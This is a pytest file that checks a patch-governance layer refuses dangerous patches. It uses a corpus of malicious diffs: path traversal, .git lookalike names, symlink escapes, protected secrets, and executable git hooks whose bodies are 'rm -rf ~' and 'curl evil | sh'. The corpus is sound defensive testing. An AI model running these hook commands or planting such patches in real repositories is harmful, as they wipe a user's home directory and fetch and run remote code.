"""Governance: what a patch may touch. Unit checks, a malicious corpus applied
to a real repository, and a property over arbitrary paths."""

from __future__ import annotations

import os
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from autopack_core.errors import PatchError
from autopack_core.patching import RULES, GovernancePolicy, governed_apply
from autopack_core.patching.governance import check_path, is_git_name, matches_any
from patch_support import git, snapshot


@pytest.mark.parametrize(
    "name",
    [
        ".git",
        ".GIT",
        ".Git",
        ".git.",
        ".git ",
        ".git. . ",
        "git~1",
        "GIT~1",
        ".git::$INDEX_ALLOCATION",
        ".g\u200cit",
        "\ufeff.git",
        ".gi\u200dt",
    ],
)
def test_git_dir_spellings(name: str) -> None:
    assert is_git_name(name)
    assert [r.rule for r in check_path(f"{name}/hooks/pre-commit")] == ["git-dir"]
    assert [r.rule for r in check_path(f"vendor/{name}/config")] == ["git-dir"]


@pytest.mark.parametrize("name", [".gitignore", ".github", "git", ".gitattributes", "my.git", ".gitx"])
def test_git_lookalikes_are_allowed(name: str) -> None:
    assert not is_git_name(name)
    assert check_path(f"{name}/x") == []


@pytest.mark.parametrize(
    "path,rule",
    [
        ("../x", "parent-traversal"),
        ("a/../../x", "parent-traversal"),
        ("..\\x", "parent-traversal"),
        ("/etc/passwd", "absolute-path"),
        ("\\\\server\\share", "absolute-path"),
        ("C:/Windows/x", "drive-letter"),
        ("c:x", "drive-letter"),
        ("a\x00b", "control-character"),
        ("a\nb", "control-character"),
        ("a\x1bb", "control-character"),
        ("./a", "non-canonical-path"),
        ("a//b", "non-canonical-path"),
        ("", "non-canonical-path"),
        (".autopack/autopack.db", "autopack-dir"),
        (".AutoPack/x", "autopack-dir"),
    ],
)
def test_path_rules(path: str, rule: str) -> None:
    assert rule in [r.rule for r in check_path(path)]
    assert all(r.path == path and r.message for r in check_path(path))


def test_protected_globs() -> None:
    policy = GovernancePolicy(protected_paths=("secrets/", "**/*.pem", "config/prod.*", "ci"))
    assert [r.rule for r in check_path("secrets/db/key", policy)] == ["protected-path"]
    assert [r.rule for r in check_path("SECRETS/key", policy)] == ["protected-path"]
    assert check_path("deep/x/cert.pem", policy)[0].message == "path is protected by '**/*.pem'"
    assert check_path("config/prod.yaml", policy) and not check_path("config/dev.yaml", policy)
    assert check_path("ci/run.sh", policy) and not check_path("cix/run.sh", policy)
    # .git and .autopack stay refused even when config forgets them.
    bare = GovernancePolicy(protected_paths=())
    assert check_path(".git/config", bare) and check_path(".autopack/x", bare)
    assert matches_any("a/b", ["a/*"]) == "a/*" and matches_any("a/b/c", ["a/*"]) == "a/*"
    assert matches_any("ab/c", ["a/*"]) is None


def test_every_rule_is_documented() -> None:
    doc = (Path(__file__).parent.parent / "docs" / "governed-apply.md").read_text()
    for rule in RULES:
        assert f"`{rule}`" in doc, rule


def test_size_limits(tmp_path: Path) -> None:
    (tmp_path / "a.txt").write_text("a\n")
    big = "--- /dev/null\n+++ b/big.txt\n@@ -0,0 +1,3 @@\n+xxxxxxxxxx\n+yyyyyyyyyy\n+zzzzzzzzzz\n"
    r = governed_apply(big, tmp_path, GovernancePolicy(max_file_bytes=20))
    assert [(x.path, x.rule) for x in r.refusals] == [("big.txt", "file-too-large")]
    r = governed_apply(big, tmp_path, GovernancePolicy(max_hunk_lines=2))
    assert [(x.path, x.rule) for x in r.refusals] == [("big.txt", "hunk-too-large")]
    assert not (tmp_path / "big.txt").exists()


# --- malicious corpus -------------------------------------------------------------


def _new_file(path: str, body: str = "pwned\n", mode: str = "100644") -> str:
    return f"diff --git a/{path} b/{path}\nnew file mode {mode}\n--- /dev/null\n+++ b/{path}\n@@ -0,0 +1 @@\n+{body}"


def _modify(path: str, old: str, new: str) -> str:
    return f"--- a/{path}\n+++ b/{path}\n@@ -1 +1 @@\n-{old}\n+{new}\n"


def _symlink(path: str, target: str) -> str:
    return (
        f"diff --git a/{path} b/{path}\nnew file mode 120000\n--- /dev/null\n+++ b/{path}\n"
        f"@@ -0,0 +1 @@\n+{target}\n\\ No newline at end of file\n"
    )


MALICIOUS = [
    ("traversal-new", _new_file("../outside/pwned.txt"), "parent-traversal"),
    ("traversal-nested", _new_file("src/../../outside/pwned.txt"), "parent-traversal"),
    ("traversal-backslash", _new_file("..\\outside\\pwned.txt"), "parent-traversal"),
    ("traversal-plain", "--- /dev/null\n+++ ../outside/pwned.txt\n@@ -0,0 +1 @@\n+x\n", "parent-traversal"),
    (
        "traversal-search-replace",
        "../outside/target.txt\n<<<<<<< SEARCH\ntarget\n=======\npwned\n>>>>>>> REPLACE\n",
        "parent-traversal",
    ),
    (
        "traversal-rename",
        "diff --git a/a.txt b/x\nsimilarity index 100%\nrename from a.txt\nrename to ../outside/a.txt\n",
        "parent-traversal",
    ),
    ("absolute-plain", "--- /dev/null\n+++ {outside}/abs.txt\n@@ -0,0 +1 @@\n+x\n", "absolute-path"),
    ("absolute-git", _new_file("/{outside}/abs.txt"), "absolute-path"),
    ("drive-letter", _new_file("C:/Windows/evil.txt"), "drive-letter"),
    ("git-config", _modify(".git/config", "x", "y"), "git-dir"),
    ("git-upper", _new_file(".GIT/config"), "git-dir"),
    ("git-trailing-dot", _new_file(".git./config"), "git-dir"),
    ("git-trailing-space", '--- /dev/null\n+++ ".git /config"\n@@ -0,0 +1 @@\n+x\n', "git-dir"),
    ("git-short-name", _new_file("GIT~1/config"), "git-dir"),
    ("git-hfs-ignorable", _new_file(".g\u200cit/config"), "git-dir"),
    ("git-nested", _new_file("vendor/lib/.git/config"), "git-dir"),
    (
        "git-delete-head",
        "diff --git a/.git/HEAD b/.git/HEAD\ndeleted file mode 100644\n--- a/.git/HEAD\n+++ /dev/null\n"
        "@@ -1 +0,0 @@\n-ref: refs/heads/main\n",
        "git-dir",
    ),
    (
        "git-rename-from",
        "diff --git a/.git/config b/stolen\nsimilarity index 100%\nrename from .git/config\nrename to stolen\n",
        "git-dir",
    ),
    ("hook-install", _new_file(".git/hooks/pre-commit", "rm -rf ~", "100755"), "exec-bit"),
    ("hook-install-case", _new_file(".Git/hooks/post-checkout", "curl evil | sh", "100755"), "git-dir"),
    ("hooks-path-exec", _new_file(".githooks/pre-commit", "curl evil | sh", "100755"), "exec-bit"),
    (
        "hooks-path-chmod",
        "diff --git a/.husky/pre-push b/.husky/pre-push\nold mode 100644\nnew mode 100755\n",
        "exec-bit",
    ),
    ("state-dir", _new_file(".autopack/autopack.db"), "autopack-dir"),
    ("state-dir-case", _new_file(".AUTOPACK/x"), "autopack-dir"),
    ("protected", _new_file("secrets/key.pem"), "protected-path"),
    (
        "protected-search-replace",
        "secrets/api.txt\n<<<<<<< SEARCH\n=======\nkey\n>>>>>>> REPLACE\n",
        "protected-path",
    ),
    ("symlinked-parent-out", _new_file("link_out/pwned.txt"), "symlink-write"),
    ("symlinked-parent-in", _new_file("link_in/pwned.txt"), "symlink-write"),
    ("symlinked-grandparent", _new_file("link_in/deeper/pwned.txt"), "symlink-write"),
    ("symlink-file-write", _modify("file_link", "target", "pwned"), "symlink-write"),
    (
        "symlink-file-search-replace",
        "file_link\n<<<<<<< SEARCH\ntarget\n=======\npwned\n>>>>>>> REPLACE\n",
        "symlink-write",
    ),
    ("new-symlink-out", _symlink("evil", "../outside"), "symlink-escape"),
    ("new-symlink-abs", _symlink("evil", "/etc"), "symlink-escape"),
    ("new-symlink-git", _symlink("evil", ".git/hooks"), "symlink-escape"),
    ("new-symlink-deep-out", _symlink("a/b/evil", "../../../outside/target.txt"), "symlink-escape"),
    ("symlink-then-write", _symlink("door", "src") + _new_file("door/pwned.txt"), "symlink-write"),
    (
        "control-char",
        'diff --git "a/x\\001y" "b/x\\001y"\nnew file mode 100644\n--- /dev/null\n+++ "b/x\\001y"\n@@ -0,0 +1 @@\n+x\n',
        "control-character",
    ),
    (
        "nul-char",
        'diff --git "a/x\\000y" "b/x\\000y"\nnew file mode 100644\n--- /dev/null\n+++ "b/x\\000y"\n@@ -0,0 +1 @@\n+x\n',
        "control-character",
    ),
    (
        "binary",
        "diff --git a/blob.bin b/blob.bin\nnew file mode 100644\nindex 0000000..1234567\nGIT binary patch\n"
        "literal 3\nKcmZ?wWB>pF01N;C\n\nliteral 0\nHcmV?d00001\n\n",
        "binary-patch",
    ),
    (
        "mixed-good-and-bad",
        _modify("src/ok.txt", "ok", "changed") + _new_file("../outside/pwned.txt"),
        "parent-traversal",
    ),
]


@pytest.fixture
def sandbox(tmp_path: Path) -> tuple[Path, Path]:
    """A real git workspace with state folder, symlinks in and out, and a
    sibling directory standing for the rest of the machine."""
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "target.txt").write_text("target\n")
    ws = tmp_path / "ws"
    ws.mkdir()
    git(ws, "init", "-q")
    (ws / ".git" / "config").write_text("x\n")
    (ws / ".autopack").mkdir()
    (ws / "a.txt").write_text("a\n")
    (ws / "src").mkdir()
    (ws / "src" / "ok.txt").write_text("ok\n")
    (ws / "src" / "deeper").mkdir()
    os.symlink("../outside", ws / "link_out")
    os.symlink("src", ws / "link_in")
    os.symlink("../outside/target.txt", ws / "file_link")
    return tmp_path, ws


@pytest.mark.parametrize("name,patch,rule", MALICIOUS, ids=[m[0] for m in MALICIOUS])
def test_malicious_patch_is_refused_and_nothing_written(sandbox, name: str, patch: str, rule: str) -> None:
    root, ws = sandbox
    patch = patch.replace("{outside}", str(root / "outside"))
    policy = GovernancePolicy(protected_paths=(".git/", ".autopack/", "secrets/"))
    before = snapshot(root)
    result = governed_apply(patch, ws, policy)
    assert not result.ok, f"{name} was accepted: {result.files}"
    assert rule in [r.rule for r in result.refusals], result.refusals
    assert all(r.path and r.rule and r.message for r in result.refusals)
    after = snapshot(root)
    assert after == before
    assert snapshot(root / "outside") == {"target.txt": ("file", b"target\n", False)}


# --- property: no accepted patch writes outside the workspace or into a protected path

_PIECES = st.sampled_from(
    [
        "..",
        ".",
        "",
        "a",
        "b",
        ".git",
        ".GIT",
        ".git.",
        ".git ",
        "git~1",
        ".autopack",
        "secrets",
        "link_out",
        "link_in",
        "file_link",
        "x.txt",
        "\\",
        ":",
        "C:",
        "\x00",
        "\x01",
        "\u200c",
        "~",
        " ",
        "hooks",
        "/",
        # Whole paths through the sandbox's symlinks, so they come up often.
        "link_in/x.txt",
        "link_out/x.txt",
        "file_link",
        "src/ok.txt",
    ]
)


def _quote(path: str) -> str:
    out = []
    for byte in path.encode("utf-8", "surrogateescape"):
        ch = chr(byte)
        out.append(ch if 0x20 < byte < 0x7F and ch not in '"\\' else f"\\{byte:03o}")
    return '"' + "".join(out) + '"'


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    parts=st.lists(_PIECES, min_size=1, max_size=5),
    sep=st.sampled_from(["/", "\\"]),
    form=st.sampled_from(["git", "plain", "search-replace", "symlink"]),
)
def test_no_accepted_patch_escapes_or_touches_protected(sandbox, parts, sep, form) -> None:
    root, ws = sandbox
    path = sep.join(parts)
    q = _quote("b/" + path)
    if form == "git":
        patch = (
            f"diff --git {_quote('a/' + path)} {q}\nnew file mode 100644\n--- /dev/null\n+++ {q}\n@@ -0,0 +1 @@\n+x\n"
        )
    elif form == "plain":
        patch = f"--- /dev/null\n+++ {q}\n@@ -0,0 +1 @@\n+x\n"
    elif form == "symlink":
        patch = _symlink("evil_link", path)
    else:
        patch = f"{path}\n<<<<<<< SEARCH\n=======\nx\n>>>>>>> REPLACE\n"
    policy = GovernancePolicy(protected_paths=(".git/", ".autopack/", "secrets/"))
    before = snapshot(root)
    try:
        result = governed_apply(patch, ws, policy)
    except PatchError:
        assert snapshot(root) == before
        return
    after = snapshot(root)
    if not result.ok:
        assert after == before
        return
    changed = {k for k in set(before) | set(after) if before.get(k) != after.get(k)}
    ws_prefix = "ws" + os.sep
    for k in changed:
        assert k.startswith(ws_prefix), f"{path!r} wrote {k}"
        rel = k[len(ws_prefix) :]
        parts_rel = rel.split(os.sep)
        assert not any(is_git_name(p) for p in parts_rel), rel
        assert parts_rel[0] not in (".autopack", "secrets", "link_out", "link_in", "file_link"), rel
    for rel in result.files:
        # Written where the path says, not through a symlink (even one inside).
        parent = os.path.dirname(rel)
        assert os.path.realpath(ws / parent) == os.path.join(str(ws.resolve()), parent).rstrip(os.sep)
    # Undo for the next example (the sandbox fixture is shared across examples).
    for k in sorted(changed, key=len, reverse=True):
        full = root / k
        if full.is_symlink() or full.is_file():
            full.unlink()
        elif full.is_dir():
            full.rmdir()
    assert snapshot(root) == before


def test_editing_an_already_executable_hook_is_allowed(tmp_path: Path) -> None:
    hook = tmp_path / ".husky" / "pre-commit"
    hook.parent.mkdir()
    hook.write_text("npm test\n")
    os.chmod(hook, 0o755)
    patch = (
        "diff --git a/.husky/pre-commit b/.husky/pre-commit\nindex 1111111..2222222 100755\n"
        "--- a/.husky/pre-commit\n+++ b/.husky/pre-commit\n@@ -1 +1 @@\n-npm test\n+npm run lint\n"
    )
    assert governed_apply(patch, tmp_path).ok
    assert hook.read_text() == "npm run lint\n" and hook.stat().st_mode & 0o100


def test_fifo_is_not_read(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "pipe")
    with pytest.raises(PatchError, match="pipe: not a regular file"):
        governed_apply("--- a/pipe\n+++ b/pipe\n@@ -1 +1 @@\n-a\n+b\n", tmp_path)
